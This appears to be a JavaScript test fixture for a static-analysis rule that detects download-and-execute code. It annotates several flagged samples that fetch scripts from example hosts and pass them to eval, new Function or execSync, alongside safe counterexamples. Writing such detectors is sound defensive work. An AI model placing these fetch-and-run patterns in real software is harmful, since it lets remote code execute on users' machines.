/*
 * Fixture for js-download-exec.
 * RULEID: eval of a fetched text, new Function of an axios body, eval of https.get data chunks,
 *   execSync of a downloaded script.
 * OK: fetch whose JSON is parsed, https.get whose body is written to the console.
 */
const https = require("https");
const axios = require("axios");
const { execSync } = require("child_process");

async function stage2() {
  const res = await fetch("https://198.51.100.3/p.js");
  const code = await res.text();
  // ruleid: js-download-exec
  eval(code);
  const r2 = await axios.get("https://cdn.example.net/x.js");
  // ruleid: js-download-exec
  new Function(r2.data)();
  const script = (await fetch("https://example.net/i.sh")).text();
  // ruleid: js-download-exec
  execSync(await script);
}

https.get("https://example.net/loader.js", (res) => {
  let body = "";
  res.on("data", (chunk) => {
    body += chunk;
  });
  res.on("end", () => {
    // ruleid: js-download-exec
    eval(body);
  });
});

async function version() {
  const res = await fetch("https://registry.npmjs.org/express/latest");
  const meta = await res.json();
  // ok: js-download-exec
  console.log(meta.version);
  // ok: js-download-exec
  eval("1+1");
}
